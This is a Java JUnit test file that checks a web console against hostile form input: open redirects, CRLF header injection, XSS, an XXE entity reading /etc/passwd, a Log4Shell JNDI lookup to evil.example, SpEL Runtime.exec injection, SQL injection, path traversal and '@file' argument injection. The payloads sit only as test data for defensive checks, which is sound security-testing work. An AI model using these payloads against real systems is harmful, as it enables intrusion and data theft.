package nl.terugblik.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest.BodyPublishers;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is typed into a form, or sent in its place, leads nobody elsewhere and is taken for nothing that it is not. */
class HostileFormsTest {

    @TempDir
    private static Path folder = Path.of("");

    private static ServedConsole console;
    private final Map<String, Visitor> visitors = new HashMap<>();

    @BeforeAll
    static void serve() {
        console = ServedConsole.of(ServedConsole.worked(folder));
    }

    /** Someone who signs in when the test needs them first. */
    private Visitor visitor(String who) {
        return visitors.computeIfAbsent(who, name -> Visitor.signedIn(console, name));
    }

    @AfterAll
    static void close() {
        console.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/",
                "//evil.example",
                "///evil.example",
                "/\\evil.example",
                "\\\\evil.example",
                "/\t/evil.example",
                " //evil.example",
                "javascript:alert(1)",
                "data:text/html,x",
                "evil.example",
                "/%0d%0aLocation:%20//evil.example\r\nX: y",
                "/\u2028evil",
                "http:evil.example",
                "/#\"><script>alert(1)</script>",
                "/?x=\"><script>alert(1)</script>"
            })
    void areInvitationsToGoElsewhere(String to) {
        String asked = java.net.URLEncoder.encode(to, java.nio.charset.StandardCharsets.UTF_8);
        for (String page : new String[] {"/sign-in?to=", "/sign-in/arrived?to=", "/me/prove?to=", "/me/purpose?to="}) {
            String body = visitor("ada").get(page + asked).body();
            assertThat(body).doesNotContain("evil", "alert(1)");
        }
        Visitor rob = new Visitor(console);
        var in = rob.post(
                "/sign-in",
                "/sign-in",
                Map.of("username", "rob", "password", ServedConsole.PASSWORD, "code", console.code(), "to", to));
        assertThat(in.headers().firstValue("Location")).hasValue("/");
        assertThat(in.headers().map()).doesNotContainKey("x");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            application/json                  | {"name":"eve","role":"steward"}
            text/plain                        | name=eve&role=steward&_csrf=TOKEN
            application/xml                   | <!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
            application/x-java-serialized-object | rO0ABXNyAA
            application/x-www-form-urlencoded;charset=UTF-7 | name=eve&role=steward
            application/x-www-form-urlencoded | name=eve&role=steward&_csrf=%
            multipart/form-data               | no boundary
            multipart/form-data;boundary=x    | --x garbage
            multipart/form-data;boundary=     | --
            multipart/mixed;boundary=y        | --y--
            text/html;q=\u0000               | x
            image/svg+xml                     | <svg/>
            """)
    void areFormsThatAreNone(String type, String body) {
        Visitor anna = visitor("anna");
        anna.get("/me");
        var answer = anna.send(anna.request("/accounts/add")
                .header("Content-Type", type.replace("\\u0000", "x"))
                .POST(BodyPublishers.ofString(body))
                .build());
        assertThat(answer.statusCode()).isIn(400, 403, 415);
        assertThat(answer.body()).doesNotContain("Exception", "root:");
        assertThat(new nl.terugblik.accounts.Accounts(
                                console.work(),
                                new nl.terugblik.ledger.LedgerFolder(console.work(), java.util.Optional.empty()),
                                console.clock())
                        .find("eve"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"_method=DELETE", "_method=PUT", "spring.profiles.active=x", "class.module.classLoader.x=y"})
    void areFieldsThatNobodyAskedFor(String field) {
        var answer = visitor("anna").get("/steward?" + field);
        assertThat(answer.statusCode()).isEqualTo(200);
        Visitor anna = visitor("anna");
        assertThat(anna.send(anna.request("/me")
                                .header("X-HTTP-Method-Override", "DELETE")
                                .header("X-Method-Override", "PUT")
                                .GET()
                                .build())
                        .statusCode())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "eve\r\n{\"n\":1,\"actor\":\"anna\",\"action\":\"session.begun\"}",
                "eve\u0000anna",
                "anna\n",
                "\u202eanna",
                "${jndi:ldap://evil.example/x}",
                "#{T(java.lang.Runtime).getRuntime().exec('x')}",
                "__${7*7}__::x",
                "' or '1'='1",
                "<script>alert(1)</script>",
                "..%2f..%2fanna"
            })
    void areNamesThatWouldBeLinesOfALog(String name) throws Exception {
        console.clock().pass(java.time.Duration.ofMinutes(1));
        int known = console.looks().size();
        Visitor visitor = new Visitor(console);
        var answer = visitor.signIn(name, "x", "000000");
        assertThat(answer.headers().firstValue("Location")).hasValue("/sign-in?wrong");
        assertThat(console.looks().subList(known, console.looks().size()))
                .singleElement()
                .asString()
                .contains("session.refused", "\"actor\":\"unknown\"", "\"object\":\"account unknown\"")
                .doesNotContain("evil", "eve", "script>");
        assertThat(visitor.get("/sign-in?wrong").body()).doesNotContain("evil", "eve\r", "eve\u0000", "alert(1)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"purpose", "purpose=", "purpose=none", "purpose=AUDIT", "purpose=audit%0a"})
    void arePurposesThatAreNone(String purpose) {
        Visitor rob = visitor("rob");
        int known = console.looks().size();
        var answer = rob.get("/researcher/runs/none-1/families/dataset/coded.csv?" + purpose);
        assertThat(answer.headers().firstValue("Location").orElse("")).startsWith("/me/purpose?to=");
        assertThat(console.looks()).hasSize(known);
    }

    /** A word of a page that begins with @ would be read as a file of words by whoever starts commands so. */
    @Test
    void areNamesThatWouldBeFiles() {
        Visitor anna = visitor("anna");
        Map<String, String> fields = Map.of(
                "organisation",
                "@" + console.work().resolve("console/accounts.json"),
                "number",
                "1",
                "again",
                "1",
                "sure",
                "yes");
        String page = anna.post("/steward/erasure/new", "/steward/erasure/new", fields)
                .headers()
                .firstValue("Location")
                .orElse("");
        assertThat(page).matches("/steward/erasure/[0-9a-f]{16}");
        String said = "";
        for (int looks = 0; looks < 600 && !said.contains("holds no family of this number"); looks++) {
            java.util.concurrent.locks.LockSupport.parkNanos(50_000_000);
            said = anna.get(page + "?lang=en").body();
            assertThat(said).doesNotContain("handle", "passkeys", "Unmatched");
        }
        assertThat(said).as("for the name it was").contains("holds no family of this number");
    }
}
